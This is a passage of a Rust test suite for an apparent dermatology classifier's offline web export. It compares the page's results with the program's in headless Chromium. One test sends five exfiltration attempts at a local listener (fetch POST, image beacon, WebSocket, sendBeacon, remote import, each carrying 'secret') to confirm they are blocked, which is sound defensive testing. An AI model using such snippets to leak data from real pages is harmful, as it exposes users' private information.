//! The page without a server, `dermafuse export --web`, in a real browser: it answers as the program does, with the network off.
//!
//! Where there is no Chromium this is skipped with a word, unless `DERMAFUSE_BROWSER=required` is set. The page computes with the npm
//! package `onnxruntime-web`: `DERMAFUSE_ONNXRUNTIME_WEB` names its folder `dist`; where it does not, what needs it is skipped with a word,
//! unless `DERMAFUSE_ONNXRUNTIME=required` is set. With `DERMAFUSE_PICTURES=DIR` it leaves pictures of the page there, of the model and
//! the photos that `DERMAFUSE_PICTURES_MODEL`, `…_CLINICAL` and `…_DERMOSCOPIC` name.

use std::collections::HashSet;
use std::env::var_os;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{JoinHandle, sleep};
use std::time::Duration;

use burn::tensor::Device;
use dermafuse::backbones::BackboneKind;
use dermafuse::data::{
    Framing, ImageMeasures, Preprocess, QualityThresholds, Resampling, RgbPixels, Strictness, ViewRule, decode,
    decode_bytes, encode_jpeg, encode_png, resize,
};
use dermafuse::ensemble::TwoStage;
use dermafuse::infer::{Bundle, BundleDescription, Model, Patient};
use dermafuse::networks::{FusionNetConfig, NetworkConfig};
use dermafuse::schema::{
    Aim, BranchWeights, ClassGroup, Coverage, FittedGroup, FuseSpace, OperatingPoint, PatientGroup, PatientRange,
    Performance, PerformanceRow, PredictionSets, Proportion, Quantile, QuestionRow, Task, TaskQuantiles, TaskSet,
};
use dermafuse::serve::{CaseInput, Classifier, ModelClassifier};
use dermafuse_tests::chromium::{Chromium, decode as bytes_of};
use dermafuse_tests::incomplete_cases::{Given, RECORD, models};
use dermafuse_tests::staged_model::staged_model;
use dermafuse_tests::{program, saved_model, text};
use serde_json::{Value, json};

/// The largest difference of a probability of the page from the program's, which `docs/onnx.md` states: a browser decodes JPEGs otherwise.
const BOUND: f64 = 0.001;

/// A web server that knows nothing but files.
struct FolderServer {
    address: String,
    asked: Arc<Mutex<Vec<String>>>,
    ended: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl FolderServer {
    fn start(folder: &Path) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = format!("http://{}/", listener.local_addr().unwrap());
        let (asked, ended) = (Arc::new(Mutex::new(Vec::new())), Arc::new(AtomicBool::new(false)));
        let (folder, names, is_ended) = (folder.to_owned(), Arc::clone(&asked), Arc::clone(&ended));
        let thread = std::thread::spawn(move || {
            for stream in listener.incoming() {
                if is_ended.load(Ordering::SeqCst) {
                    return;
                }
                let (folder, names) = (folder.clone(), Arc::clone(&names));
                std::thread::spawn(move || answer(&folder, stream.unwrap(), &names));
            }
        });
        Self { address, asked, ended, thread: Some(thread) }
    }

    /// Until nobody listens there any more.
    fn end(mut self) -> Vec<String> {
        self.ended.store(true, Ordering::SeqCst);
        let host = self.address.trim_start_matches("http://").trim_end_matches('/');
        drop(TcpStream::connect(host));
        self.thread.take().unwrap().join().unwrap();
        // A program that another test starts at this moment has the socket, too, until its own code begins.
        let is_off = (0..500).any(|_| TcpStream::connect(host).map(|_| sleep(Duration::from_millis(10))).is_err());
        assert!(is_off, "the server is off");
        std::mem::take(&mut self.asked.lock().unwrap())
    }
}

fn answer(folder: &Path, mut stream: TcpStream, asked: &Mutex<Vec<String>>) {
    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines().map_while(Result::ok);
    let Some(first) = lines.next() else { return };
    lines.take_while(|line| !line.is_empty()).for_each(drop);
    let path = first.split(' ').nth(1).unwrap_or_default().split('?').next().unwrap_or_default();
    let name = if path == "/" { "index.html" } else { path.trim_start_matches('/') };
    asked.lock().unwrap().push(name.to_owned());
    let kind = match name.rsplit('.').next() {
        Some("html") => "text/html",
        Some("js" | "mjs") => "text/javascript",
        Some("css") => "text/css",
        Some("svg") => "image/svg+xml",
        Some("wasm") => "application/wasm",
        _ => "application/octet-stream",
    };
    let (status, body) = match fs::read(folder.join(name)) {
        Ok(body) => ("200 OK", body),
        Err(_) => ("404 Not Found", Vec::new()),
    };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
}

/// The browser; none where there is none and it is not required.
fn browser() -> Option<Chromium> {
    match Chromium::find() {
        Some(program) => Some(Chromium::start(&program)),
        None if var_os("DERMAFUSE_BROWSER").is_some_and(|wish| wish == "required") => {
            panic!("there is no chromium in PATH, and DERMAFUSE_BROWSER=required asks for one")
        }
        None => {
            println!("SKIPPED: there is no chromium in PATH, so the page without a server is not tried");
            None
        }
    }
}

/// The folder of `onnxruntime-web`; none where nobody names it and it is not required.
fn runtime() -> Option<PathBuf> {
    match var_os("DERMAFUSE_ONNXRUNTIME_WEB").map(PathBuf::from) {
        Some(folder) => Some(folder),
        None if var_os("DERMAFUSE_ONNXRUNTIME").is_some_and(|wish| wish == "required") => {
            panic!("DERMAFUSE_ONNXRUNTIME=required asks for the page, and DERMAFUSE_ONNXRUNTIME_WEB names no folder")
        }
        None => {
            println!("SKIPPED: DERMAFUSE_ONNXRUNTIME_WEB names no folder of onnxruntime-web, so the page is not tried");
            None
        }
    }
}

/// A photo of a dark spot, larger than what the model looks at.
fn photo(folder: &Path, name: &str, seed: usize) -> PathBuf {
    let (width, height) = (613, 409 + seed);
    let pixel = |at: usize| {
        let (x, y) = ((at % width) as f64, (at / width) as f64);
        let far = ((x - 300.0).powi(2) + (y - 200.0).powi(2) * (1.0 + 0.2 * seed as f64)).sqrt();
        let grain = ((at * 2_654_435_761) >> 7) % 24;
        let inside = far + 12.0 * (y / 9.0).sin() < 110.0 + 20.0 * seed as f64;
        if inside {
            [80 + grain as u8, 45, 35 + (grain / 2) as u8]
        } else {
            [224, 178 - grain as u8, 160 + (at % 5) as u8]
        }
    };
    let pixels = RgbPixels::new(width, height, (0..width * height).flat_map(pixel).collect()).unwrap();
    let path = folder.join(name);
    fs::write(&path, encode_jpeg(&pixels, 90).unwrap()).unwrap();
    path
}

fn encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A file of these bytes as a script writes it.
fn script_file(path: &Path) -> String {
    format!("new File([Uint8Array.from(atob('{}'), (c) => c.charCodeAt(0))], 'x')", encode(&fs::read(path).unwrap()))
}

/// A PNG of one pixel that is half transparent.
const CLEAR_PNG: &[u8] = b"\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0d\x49\x44\x41\x54\x78\xda\x63\x38\x91\x62\xd4\x00\x00\x05\x35\x01\xdf\xac\x3c\xf1\xcb\x00\x00\x00\x00\x49\x45\x4e\x44\xae\x42\x60\x82";

/// Whether the banner is in sight, wherever the page is scrolled to.
const BANNER_IN_SIGHT: &str = "(() => { const b = document.getElementById('banner').getBoundingClientRect(); \
     return b.top >= 0 && b.bottom <= innerHeight && b.height > 10 && b.width > innerWidth / 2; })()";

/// Bytes as a script gives them back.
const BASE64: &str = "const base64 = (bytes) => { let text = ''; for (const byte of bytes) text += String.fromCharCode(byte); return btoa(text); };";

fn export(model: &Path, runtime: &Path, out: &Path) {
    let output = program("dermafuse")
        .arg("export")
        .arg(model)
        .arg("--web")
        .arg(out)
        .arg("--runtime")
        .arg(runtime)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", text(&output));
}

#[test]
fn the_page_reduces_images_to_the_same_bytes_as_the_program() {
    let Some(mut browser) = browser() else { return };
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("crates/dermafuse-serve/page/offline");
    let server = FolderServer::start(&page);
    browser.open(&format!("{}resize.js", server.address));
    let sizes = [
        (160, 120, 64),
        (613, 409, 224),
        (50, 40, 64),
        (64, 90, 64),
        (90, 64, 64),
        (3, 5, 7),
        (64, 64, 64),
        (1, 1, 3),
        (300, 1, 8),
    ];
    for (width, height, size) in sizes {
        let grain = |at: usize| (at.wrapping_mul(2_654_435_761) >> 11) as u8;
        // Grain for every rounding, and a slope for the rest.
        let byte = |at: usize| if at % 5 < 2 { grain(at) } else { (at / 3 % width * 255 / width) as u8 };
        let pixels = RgbPixels::new(width, height, (0..width * height * 3).map(byte).collect()).unwrap();
        let four: Vec<u8> = pixels.data().chunks(3).flat_map(|rgb| [rgb[0], rgb[1], rgb[2], 255]).collect();
        let words = [Resampling::Pillow, Resampling::PillowBicubic, Resampling::OpenCv, Resampling::Nearest];
        let framings = [Framing::Squash, Framing::Pad, Framing::Crop];
        for (resampling, framing) in words.into_iter().flat_map(|word| framings.map(|framing| (word, framing))) {
            let preprocess = Preprocess { resampling, framing, ..Preprocess::imagenet(size) };
            let name = serde_json::to_value(&preprocess).unwrap();
            let script = format!(
                "import('/resize.js').then(({{ resize }}) => {{ {BASE64} const pixels = Uint8Array.from(atob('{}'), (c) => c.charCodeAt(0)); \
                 return base64(resize(pixels, {width}, {height}, {name})); }})",
                encode(&four)
            );
            let found = bytes_of(&browser.text(&script));
            let expected = preprocess.square(&pixels).unwrap();
            assert_eq!(found.len(), expected.data().len());
            let differ = found.iter().zip(expected.data()).filter(|(one, other)| one != other).count();
            assert_eq!(differ, 0, "{width} x {height} to {size}, {name}: {differ} of {} bytes", found.len());
        }
    }
}

#[test]
fn the_page_finds_in_pictures_what_the_program_finds() {
    let Some(mut browser) = browser() else { return };
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("crates/dermafuse-serve/page/offline");
    let server = FolderServer::start(&page);
    browser.open(&format!("{}quality.js", server.address));
    let folder = tempfile::tempdir().unwrap();
    let skin = |seed| decode(photo(folder.path(), "skin.jpg", seed), Strictness::Strict).unwrap();
    let plain =
        |width: usize, height: usize, rgb: [u8; 3]| RgbPixels::new(width, height, rgb.repeat(width * height)).unwrap();
    let changed = |pixels: &RgbPixels, change: fn(u8) -> u8| {
        RgbPixels::new(pixels.width(), pixels.height(), pixels.data().iter().map(|&byte| change(byte)).collect())
            .unwrap()
    };
    let pictures = [
        skin(0),
        skin(9),
        resize(&skin(3), 40, Resampling::Pillow).unwrap(),
        plain(300, 200, [0; 3]),
        plain(120, 130, [250, 251, 252]),
        plain(129, 64, [210, 160, 140]),
        changed(&skin(1), |byte| byte / 4),
        changed(&skin(1), |byte| 230 + byte / 11),
        changed(&skin(1), |byte| 255 - byte),
        resize(&resize(&skin(2), 8, Resampling::Pillow).unwrap(), 500, Resampling::PillowBicubic).unwrap(),
    ];
    let thresholds = QualityThresholds::default();
    let rule = json!({ "intercept": ViewRule::SHIPPED.intercept, "weights": ViewRule::SHIPPED.weights });
    let four = |pixels: &RgbPixels| -> Vec<u8> {
        pixels.data().chunks(3).flat_map(|rgb| [rgb[0], rgb[1], rgb[2], 255]).collect()
    };
    let mut kinds = HashSet::new();
    for (at, clinical) in pictures.iter().enumerate() {
        for dermoscopic in [None, Some(&pictures[(at * 3 + 1) % pictures.len()]), Some(clinical)] {
            let measure = |pixels: &RgbPixels| {
                format!(
                    "measured({{ width: {}, height: {}, data: Uint8Array.from(atob('{}'), (c) => c.charCodeAt(0)) }}, {rule})",
                    pixels.width(),
                    pixels.height(),
                    encode(&four(pixels))
                )
            };
            let other = dermoscopic.map(|pixels| format!(", dermoscopic: {}", measure(pixels))).unwrap_or_default();
            let script = format!(
                "import('/quality.js').then(({{ measured, findings }}) => {{ const measures = {{ clinical: {}{other} }}; const {{ thumbnail, ...of }} = \
                 measures.clinical; return JSON.stringify([of, findings(measures, {})]); }})",
                measure(clinical),
                serde_json::to_value(&thresholds).unwrap()
            );
            let [of, found]: [Value; 2] = serde_json::from_str(&browser.text(&script)).unwrap();
            let expected = ImageMeasures::of(clinical);
            for (name, value) in [
                ("brightness", expected.brightness),
                ("darkest", expected.darkest),
                ("brightest", expected.brightest),
                ("range", expected.range),
                ("skin", expected.skin),
                ("sharpness", expected.sharpness),
                ("dermoscopic", expected.dermoscopic),
            ] {
                let differs = (of[name].as_f64().unwrap() - value).abs();
                assert!(differs <= 1e-9 * (1.0 + value.abs()), "{at}: {name}: {} in place of {value}", of[name]);
            }
            let other = dermoscopic.map(ImageMeasures::of);
            let findings = thresholds.findings(&[&expected], &other.iter().collect::<Vec<_>>());
            let findings = findings
                .iter()
                .map(|finding| (finding.kind.name().to_owned(), finding.image.map(|image| image.name().to_owned())));
            let findings: Vec<_> = findings.collect();
            let found = found.as_array().unwrap().iter().map(|finding| {
                (finding["kind"].as_str().unwrap().to_owned(), finding["image"].as_str().map(str::to_owned))
            });
            assert_eq!(found.collect::<Vec<_>>(), findings, "{at}");
            kinds.extend(findings.into_iter().map(|(kind, _)| kind));
        }
    }
    assert!(kinds.len() >= 8, "{kinds:?}");
    drop(browser);
    server.end();
}

/// A JPEG with a tag that says how it is turned.
fn turned(jpeg: &[u8], orientation: u8) -> Vec<u8> {
    let exif =
        [&b"Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0"[..], &[orientation, 0, 0, 0, 0, 0, 0, 0]].concat();
    let length = (exif.len() as u16 + 2).to_be_bytes();
    [&jpeg[..2], b"\xff\xe1", &length, &exif, &jpeg[2..]].concat()
}

#[test]
fn the_page_sees_the_pixels_that_the_program_sees() {
    let Some(mut browser) = browser() else { return };
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("crates/dermafuse-serve/page/offline");
    let server = FolderServer::start(&page);
    browser.open(&format!("{}pixels.js", server.address));
    let folder = tempfile::tempdir().unwrap();
    let rule = json!({ "intercept": ViewRule::SHIPPED.intercept, "weights": ViewRule::SHIPPED.weights });
    let jpeg = fs::read(photo(folder.path(), "photo.jpg", 2)).unwrap();
    let png = encode_png(&decode_bytes("photo", &jpeg, Strictness::Strict).unwrap());
    let turns = [3, 5, 6, 8].map(|orientation| (turned(&jpeg, orientation), 3));
    let (mut largest, mut sum, mut count) = (0, 0_u64, 0_u64);
    for (file, most) in [(png, 0), (jpeg.clone(), 3)].into_iter().chain(turns) {
        let expected = decode_bytes("photo", &file, Strictness::Strict).unwrap();
        let size = 320;
        let script = format!(
            "import('/pixels.js').then(({{ looked }}) => looked('clinical', new File([Uint8Array.from(atob('{}'), (c) => c.charCodeAt(0))], 'x'), \
             {{ size: {size}, resampling: 'open_cv' }}, {rule})).then(({{ pixels }}) => {{ {BASE64} return base64(pixels); }})",
            encode(&file)
        );
        let found = bytes_of(&browser.text(&script));
        let expected = resize(&expected, size, Resampling::OpenCv).unwrap();
        for (one, other) in found.iter().zip(expected.data()) {
            let difference = one.abs_diff(*other);
            assert!(difference <= most, "{difference}, at most {most}");
            (largest, sum, count) = (largest.max(difference), sum + u64::from(difference), count + 1);
        }
        assert_eq!(found.len(), expected.data().len());
    }
    println!("bytes of pixels differ by at most {largest}, by {:.4} in the mean", sum as f64 / count as f64);
    drop(browser);
    server.end();
}

/// The small model, with everything that an answer can have: a question of a group of classes, prediction sets, test results.
fn whole_model(folder: &Path) -> PathBuf {
    let file = saved_model(folder);
    let mut bundle = Bundle::load(&file, &Device::flex()).unwrap();
    let group =
        ClassGroup::new("referral", "diagnosis", [("soon", vec!["MEL"]), ("later", vec!["BCC"])], ["soon", "later"])
            .unwrap();
    let point = OperatingPoint { threshold: 0.4, positives: 9, negatives: 9, sensitivity: 1.0, specificity: 0.5 };
    bundle.description.groups = vec![FittedGroup { group, aim: Aim::Sensitivity(0.9), operating_point: Some(point) }];
    let quantile = |score| Quantile { cases: 40, score };
    let of_task = |task: &Task, score| TaskQuantiles {
        task: task.name.clone(),
        all: quantile(Some(score)),
        classes: task.classes.iter().map(|class| (class.clone(), quantile(None))).collect(),
    };
    let tasks = &bundle.description.tasks;
    let tasks = vec![of_task(&tasks[0], 0.9), of_task(&tasks[1], 0.3)];
    bundle.description.prediction_sets = Some(PredictionSets { error_rate: 0.1, coverage: Coverage::Marginal, tasks });
    let row = |right, cases| PerformanceRow { cases, accuracy: Proportion::of(right, cases), questions: Vec::new() };
    let question =
        QuestionRow { name: "referral".into(), sensitivity: Proportion::of(7, 9), specificity: Proportion::of(0, 0) };
    let group = |field: &str, of, numbers| PatientGroup { field: field.into(), of, numbers };
    bundle.description.performance = Some(Performance {
        task: "diagnosis".into(),
        all: PerformanceRow { questions: vec![question], ..row(41, 60) },
        groups: vec![
            group("sex", PatientRange::Category("male".into()), row(9, 12)),
            group("sex", PatientRange::NotRecorded, row(20, 30)),
            group("age", PatientRange::Numbers { from: 0.0, below: Some(50.0) }, row(20, 40)),
            group("age", PatientRange::Numbers { from: 50.0, below: None }, row(21, 21)),
        ],
    });
    bundle.save(&file).unwrap();
    file
}

/// What stands in a photo's file, as the page of a server is given it.
fn bytes_in(photo: Option<&Path>) -> Option<Vec<u8>> {
    photo.map(|file| fs::read(file).unwrap())
}

/// The classes of all tasks of an answer, in order, with their probabilities.
fn classes_of(answer: &Value) -> Vec<(String, f64)> {
    let classes = answer["tasks"].as_array().unwrap().iter().flat_map(|task| task["classes"].as_array().unwrap());
    classes.map(|class| (class["name"].as_str().unwrap().to_owned(), class["probability"].as_f64().unwrap())).collect()
}

/// What the page answers to photos and a record, or `refused` and why.
fn answer_of(browser: &mut Chromium, clinical: Option<&Path>, dermoscopic: Option<&Path>, fields: &Value) -> Value {
    let of = |file: Option<&Path>| file.map_or_else(|| "undefined".to_owned(), script_file);
    let script = format!(
        "import('./source.js').then(({{ source }}) => source.predict({{ images: {{ clinical: {}, dermoscopic: {} }}, fields: {fields} }}, {{}})) \
         .then((answer) => JSON.stringify(answer), (error) => JSON.stringify({{ refused: error.code ?? error.message }}))",
        of(clinical),
        of(dermoscopic),
    );
    serde_json::from_str(&browser.text(&script)).unwrap()
}

#[test]
fn a_page_without_a_server_answers_as_the_program_does_with_the_network_off() {
    let (Some(runtime), Some(mut browser)) = (runtime(), browser()) else { return };
    let folder = tempfile::tempdir().unwrap();
    let file = whole_model(folder.path());
    let out = folder.path().join("page");
    export(&file, &runtime, &out);
    let server = FolderServer::start(&out);
    let address = server.address.clone();
    // Somebody who would like to hear of it.
    let elsewhere = TcpListener::bind("127.0.0.1:0").unwrap();
    let other = elsewhere.local_addr().unwrap();
    let heard = Arc::new(AtomicUsize::new(0));
    let hears = Arc::clone(&heard);
    std::thread::spawn(move || {
        for _ in elsewhere.incoming() {
            hears.fetch_add(1, Ordering::SeqCst);
        }
    });

    browser.resize(1100, 900, false);
    browser.open(&address);
    browser.wait("document.getElementById('kept').innerText.includes('without a network')");
    browser.wait("!document.getElementById('case').hidden");
    let asked = server.end();
    assert!(
        asked.iter().any(|name| name == "model.onnx") && asked.iter().all(|name| out.join(name).is_file()),
        "{asked:?}"
    );

    // The network is off from here on.
    browser.open(&address);
    browser.wait("!document.getElementById('case').hidden");
    assert_eq!(browser.run(BANNER_IN_SIGHT), true);
    assert_eq!(browser.run("crossOriginIsolated"), true);
    assert_eq!(browser.run("document.getElementById('explanations').hidden"), true);
    let served = ModelClassifier::new(Model::open(&file, &Device::flex()).unwrap()).unwrap();
    let mut largest = 0.0_f64;
    for (seed, fields) in [(1, json!([["sex", "male"], ["age", "61"]])), (5, json!([["age", "7.5"]]))] {
        let (clinical, dermoscopic) =
            (photo(folder.path(), "Jane Doe.jpg", seed), photo(folder.path(), "b.jpg", seed + 7));
        let pairs =
            fields.as_array().unwrap().iter().map(|pair| [0, 1].map(|at| pair[at].as_str().unwrap().to_owned()));
        let case = CaseInput {
            clinical: Some(fs::read(&clinical).unwrap().into()),
            dermoscopic: Some(fs::read(&dermoscopic).unwrap().into()),
            fields: pairs.map(|[name, value]| (name, value)).collect(),
            ..CaseInput::default()
        };
        let mut expected = serde_json::to_value(served.answer(&case).unwrap()).unwrap();
        let mut found = answer_of(&mut browser, Some(&clinical), Some(&dermoscopic), &fields);
        // All numbers that depend on pixels, which are compared; the rest is equal.
        let mut numbers = [Vec::new(), Vec::new()];
        for (answer, numbers) in [&mut expected, &mut found].into_iter().zip(&mut numbers) {
            for task in answer["tasks"].as_array_mut().unwrap() {
                numbers.extend(
                    task["classes"].as_array_mut().unwrap().iter_mut().map(|class| class["probability"].take()),
                );
            }
            numbers
                .extend(answer["groups"].as_array_mut().unwrap().iter_mut().map(|group| group["probability"].take()));
        }
        assert_eq!(numbers[0].len(), 3 + 2 + 1);
        for (one, other) in numbers[0].iter().zip(&numbers[1]) {
            largest = largest.max((one.as_f64().unwrap() - other.as_f64().unwrap()).abs());
        }
        for same in ["model", "tasks", "groups", "evidence", "seven_point", "stored"] {
            assert_eq!(found[same], expected[same], "{same}");
        }
        for same in ["images", "fields"] {
            assert_eq!(found["basis"][same], expected["basis"][same], "{same}");
        }
        // What the tables of texts have words for needs no sentence.
        let told = |said: &Value, names: &[&str]| -> Vec<Value> {
            said.as_array().unwrap().iter().map(|said| names.iter().map(|name| said[*name].clone()).collect()).collect()
        };
        for (said, names) in
            [("notes", &["kind", "field", "fields", "value", "unit"][..]), ("findings", &["kind", "image"])]
        {
            assert_eq!(told(&found[said], names), told(&expected[said], names), "{said}");
        }
        assert!(
            !expected["notes"].as_array().unwrap().is_empty() && expected["evidence"].as_array().unwrap().len() > 2
        );
    }
    println!("the page's probabilities differ by at most {largest:.6} from the program's");
    assert!(largest <= BOUND, "{largest}");

    // The same by hand, as a reader does it.
    let (clinical, dermoscopic) = (photo(folder.path(), "Jane Doe.jpg", 1), photo(folder.path(), "b.jpg", 8));
    browser.choose("#clinical", &clinical);
    browser.run("document.getElementById('ask').click()");
    browser.wait("document.getElementById('error').innerText.includes('not given: dermoscopic')");
    browser.choose("#dermoscopic", &dermoscopic);
    browser.run(
        "document.getElementById('fields.sex').value = 'male'; document.getElementById('fields.age').value = '161'",
    );
    browser.run("document.getElementById('ask').click()");
    browser.wait("!document.getElementById('answer').hidden");
    let patient = Patient::new().clinical(clinical.as_path()).dermoscopic(dermoscopic.as_path());
    let expected = served.model().predict(&patient.set("sex", "male").set("age", 161)).unwrap();
    let top = expected.tasks()[0].top();
    let shown = browser.text("document.getElementById('top').innerText");
    assert!(shown.contains(&top.class), "{shown}: {top:?}");
    let answer = browser.text("document.getElementById('answer').innerText");
    for part in ["Clinical photo, Dermoscopic image", "male", "161", "extrapolation", "drawn images"] {
        assert!(answer.contains(part), "{part}: {answer}");
    }
    let rows: usize = expected.tasks().iter().map(|task| task.ranked().len()).sum();
    assert_eq!(browser.run("document.querySelectorAll('#tasks tbody tr').length"), rows);
    for language in ["pt", "de", "zh", "en"] {
        browser.run(&format!(
            "(() => {{ const l = document.getElementById('language'); l.value = '{language}'; l.dispatchEvent(new Event('change')); }})()"
        ));
        let unsaid = "document.body.innerText.includes('undefined') || document.body.innerText.includes('{')";
        assert_eq!(browser.run(unsaid), false, "{language}");
    }

    // What the browser would show in part, or blend, is refused at its place.
    let broken = folder.path().join("broken.jpg");
    let whole = fs::read(&clinical).unwrap();
    fs::write(&broken, &whole[..whole.len() / 2]).unwrap();
    let clear = folder.path().join("clear.png");
    fs::write(&clear, CLEAR_PNG).unwrap();
    let text_file = folder.path().join("text.jpg");
    fs::write(&text_file, "no picture").unwrap();
    for (bad, says) in [(broken, "not whole"), (clear, "transparent"), (text_file, "no JPEG, PNG, WebP or BMP")] {
        browser.choose("#clinical", &bad);
        browser.run("document.getElementById('ask').click()");
        browser.wait(&format!("document.getElementById('error').innerText.includes('{says}')"));
        assert_eq!(browser.text("document.activeElement.id"), "clinical");
    }

    // Every request went to the page's own address, and was answered without it.
    for (method, event) in &browser.events {
        match method.as_str() {
            "Network.requestWillBeSent" => {
                let url = event["request"]["url"].as_str().unwrap();
                let own = ["data:".into(), format!("blob:{address}"), address.clone()];
                assert!(own.iter().any(|own| url.starts_with(own.as_str())), "{url}");
            }
            "Runtime.exceptionThrown" => panic!("{event}"),
            "Log.entryAdded" => assert_ne!(event["entry"]["level"], "error", "{event}"),
            _ => {}
        }
    }
    // A script that would send something cannot.
    for attempt in [
        format!(
            "fetch('http://{other}/', {{ method: 'POST', body: 'secret', mode: 'no-cors' }}).then(() => 'sent', () => 'refused')"
        ),
        format!(
            "new Promise((done) => {{ const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('refused'); i.src = 'http://{other}/secret'; }})"
        ),
        format!(
            "new Promise((done) => {{ const s = new WebSocket('ws://{other}/'); s.onopen = () => done('sent'); s.onerror = () => done('refused'); }})"
        ),
        format!("Promise.resolve(navigator.sendBeacon('http://{other}/', 'secret') && 'refused')"),
        format!("import('http://{other}/secret.js').then(() => 'sent', () => 'refused')"),
    ] {
        let outcome = browser.run(&attempt);
        assert!(outcome == "refused" || outcome == false, "{attempt}: {outcome}");
    }
    sleep(Duration::from_millis(300));
    assert_eq!(heard.load(Ordering::SeqCst), 0, "somebody else was asked");
}

/// A model whose branches have classifiers of their own: of the photo, of the dermoscopic image and of both.
fn model_of_branches(folder: &Path) -> PathBuf {
    let tasks = TaskSet::new(vec![Task::new("diagnosis", "DIAG", ["BCC", "NEV", "MEL"])]).unwrap();
    let config = FusionNetConfig::new(BackboneKind::ResNet18Quarter, tasks.class_counts());
    let config = NetworkConfig::FusionNet(config);
    let network = config.init_seeded(11, &Device::flex()).unwrap();
    let description = BundleDescription::new(tasks, config, Preprocess::imagenet(64));
    let weights = BranchWeights::new([("clinical", 1.0), ("dermoscopic", 2.0), ("fusion", 1.0)]).unwrap();
    let two_stage = TwoStage::new(weights, FuseSpace::Logits, None, 1.0).unwrap();
    let file = folder.join("branches.safetensors");
    Bundle::new(description, network, two_stage).save(&file).unwrap();
    file
}

#[test]
fn a_page_answers_without_an_image_where_the_program_does() {
    let (Some(runtime), Some(mut browser)) = (runtime(), browser()) else { return };
    let folder = tempfile::tempdir().unwrap();
    let file = model_of_branches(folder.path());
    let out = folder.path().join("page");
    export(&file, &runtime, &out);
    let server = FolderServer::start(&out);
    browser.open(&server.address);
    browser.wait("!document.getElementById('case').hidden");
    let served = ModelClassifier::new(Model::open(&file, &Device::flex()).unwrap()).unwrap();
    let photos = [photo(folder.path(), "a.jpg", 2), photo(folder.path(), "b.jpg", 9)];
    let mut answers = Vec::new();
    for there in [[true, true], [true, false], [false, true]] {
        let [clinical, dermoscopic] = [0, 1].map(|at| there[at].then(|| photos[at].as_path()));
        let case = CaseInput {
            clinical: bytes_in(clinical).map(Into::into),
            dermoscopic: bytes_in(dermoscopic).map(Into::into),
            ..CaseInput::default()
        };
        let expected = serde_json::to_value(served.answer(&case).unwrap()).unwrap();
        let found = answer_of(&mut browser, clinical, dermoscopic, &json!([]));
        for ((class, probability), (other, expected)) in classes_of(&found).into_iter().zip(classes_of(&expected)) {
            assert!(
                class == other && (probability - expected).abs() <= BOUND,
                "{there:?} {class}: {probability} {expected}"
            );
        }
        assert_eq!(found["basis"]["images"], expected["basis"]["images"], "{there:?}");
        let told = |answer: &Value| -> Vec<(Value, Value)> {
            answer["notes"]
                .as_array()
                .unwrap()
                .iter()
                .map(|note| (note["kind"].clone(), note["image"].clone()))
                .collect()
        };
        assert_eq!(told(&found), told(&expected), "{there:?}");
        answers.push(classes_of(&found));
    }
    assert!(answers[0] != answers[1] && answers[1] != answers[2], "{answers:?}");
    drop(browser);
    server.end();
}

#[test]
fn a_page_answers_incomplete_cases_where_the_program_does_and_says_the_same_of_them() {
    let (Some(runtime), Some(mut browser)) = (runtime(), browser()) else { return };
    let folder = tempfile::tempdir().unwrap();
    let photos = [photo(folder.path(), "a.jpg", 2), photo(folder.path(), "b.jpg", 9)];
    let (mut refused, mut answered, mut largest) = (0, 0, 0.0_f64);
    for (name, bundle) in models() {
        let file = folder.path().join("model.safetensors");
        bundle.save(&file).unwrap();
        let out = folder.path().join(name.replace(' ', "_"));
        export(&file, &runtime, &out);
        let server = FolderServer::start(&out);
        browser.open(&server.address);
        browser.wait("!document.getElementById('case').hidden");
        let served = ModelClassifier::new(Model::new(bundle).unwrap()).unwrap();
        for (at, given) in Given::parts_for(served.model()).into_iter().enumerate() {
            let record: &[(&str, &str)] = if given.record { &RECORD } else { &[] };
            let clinical = given.clinical.then_some(photos[0].as_path());
            let dermoscopic = given.dermoscopic.then_some(photos[1].as_path());
            let fields = record.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
            let case = CaseInput {
                clinical: bytes_in(clinical).map(Into::into),
                dermoscopic: bytes_in(dermoscopic).map(Into::into),
                fields,
                ..CaseInput::default()
            };
            let found = answer_of(&mut browser, clinical, dermoscopic, &json!(record));
            let expected = match served.answer(&case) {
                Ok(answer) => serde_json::to_value(answer).unwrap(),
                Err(error) => {
                    assert_eq!(found["refused"], error.code(), "{name} {given:?}");
                    refused += 1;
                    continue;
                }
            };
            assert!(found["refused"].is_null(), "{name} {given:?}: {}", found["refused"]);
            answered += usize::from(at > 0);
            let (found_classes, expected_classes) = (classes_of(&found), classes_of(&expected));
            assert_eq!(found_classes.len(), expected_classes.len(), "{name} {given:?}");
            for ((class, probability), (other, expected)) in found_classes.iter().zip(&expected_classes) {
                assert_eq!(class, other, "{name} {given:?}");
                largest = largest.max((probability - expected).abs());
            }
            assert!(largest <= BOUND, "{name} {given:?}: {largest}");
            for same in ["images", "fields"] {
                assert_eq!(found["basis"][same], expected["basis"][same], "{name} {given:?} {same}");
            }
            // What the tables of texts have words for needs no sentence.
            let told = |answer: &Value| -> Vec<Vec<Value>> {
                let notes = answer["notes"].as_array().unwrap().iter();
                let sentence =
                    |note: &Value| if note["kind"] == "of_model" { note["message"].clone() } else { Value::Null };
                notes
                    .map(|note| {
